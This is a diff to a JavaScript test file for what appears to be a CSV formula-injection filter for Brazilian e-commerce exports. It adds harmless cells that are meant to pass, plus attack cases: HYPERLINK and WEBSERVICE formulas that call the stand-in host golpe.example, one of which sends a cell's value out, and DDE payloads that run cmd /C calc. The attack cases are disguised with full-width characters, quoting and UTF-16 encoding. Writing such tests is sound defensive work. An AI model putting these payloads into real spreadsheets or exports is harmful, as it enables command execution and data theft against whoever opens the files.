@@ -73,6 +73,19 @@ csv('plus brand name', 'marca\n+Vida(Natural)\n', 'marcas.csv');
 csv('minus hyphen word', 'status\n-cancelado(a) pelo cliente\n', 'status.csv');
 csv('at loja (oficial)', 'loja\n@loja(oficial)\n', 'loja.csv');
 csv('quoted plus with brackets', 'obs\n"+ produto(s) com avaria, ver foto"\n', 'avaria.csv');
+// files 55: bars without a DDE item, sizes and plurals in brackets, remote names as words.
+csv('grade with bars', 'produto;grade\nCamiseta básica;- tamanhos P|M|G\nBermuda;-38|40|42\n', 'grade.csv');
+csv(
+  'caps size at cell end',
+  'pedido;item;qtd\n1;-CAMISETA(P);2\n2;- 2 CAMISETA(S);1\n3;+KIT(GG);1\n',
+  'itens-caps.csv',
+);
+csv(
+  'call center notes',
+  'cliente;obs\nAna;- 2 call(s) sem resposta\nJoão;+ 3 image(s) do produto\nMaria;- 1 CALL(S)\n',
+  'atendimento.csv',
+);
+csv('full-width japanese export', 'valor;itens\n\uff0d15,00;\uff0d 商品\uff08\uff33\uff09\n', 'jp.csv');
 csv(
   'caps bullets',
   'pedido;itens\n1;- PRODUTO(S) SEM ESTOQUE\n2;+ BRINDE(S) NA CAIXA\n3;-CAMISETA(P) AZUL\n',
@@ -414,6 +427,25 @@ bcsv('+ IMPORTXML space', 'a;b\n1;+ IMPORTXML("http://golpe.example";"//a")\n');
 bcsv('caps SUM end', 'a;b\n1;-SUM(A1:A3)\n');
 bcsv('caps nested SUM op', 'a;b\n1;+ROUND(SUM(A1:A3),2)*2\n');
 bcsv('tab hyperlink', 'a\tb\n1\t+HYPERLINK("http://golpe.example")\n');
+// files 55: full-width names, a space before the bracket, quoted DDE names, LibreOffice's DDE().
+bcsv(
+  'full-width hyperlink',
+  'pedido;link\n1;\uff0d\uff28\uff39\uff30\uff25\uff32\uff2c\uff29\uff2e\uff2b("http://golpe.example")\n',
+);
+bcsv('full-width W webservice', 'pedido;c\n1;-\uff37EBSERVICE("http://golpe.example/?c="&B2)\n');
+bcsv('space before bracket', 'pedido;link\n1;-HYPERLINK ("http://golpe.example/login")\n');
+bcsv('quoted dde app', "pedido;valor\n1;-'cmd'|' /C calc'!A0\n");
+bcsv('double-quoted dde app', 'pedido;valor\n1;-"cmd"|\' /C calc\'!A0\n');
+bcsv('lower dde function', 'pedido;valor\n1;"-dde(""cmd"";""/C calc"";""x"")"\n');
+bcsv('webservice of a heading', 'url;pedido\nhttp://golpe.example/?c=;1\n-WEBSERVICE(url)\n');
+bad.push([
+  'utf16 full-width hyperlink',
+  Buffer.concat([
+    Buffer.from([0xff, 0xfe]),
+    Buffer.from('a;b\r\n1;\uff0dhyperlink\uff08"http://golpe"\uff09\r\n', 'utf16le'),
+  ]),
+  'pedidos.csv',
+]);
 bad.push(['cp1252 csv formula', l1('Observação;link\n1;=HYPERLINK("http://golpe.example")\n'), 'pedidos.csv']);
 bad.push([
   'utf16 csv dde',
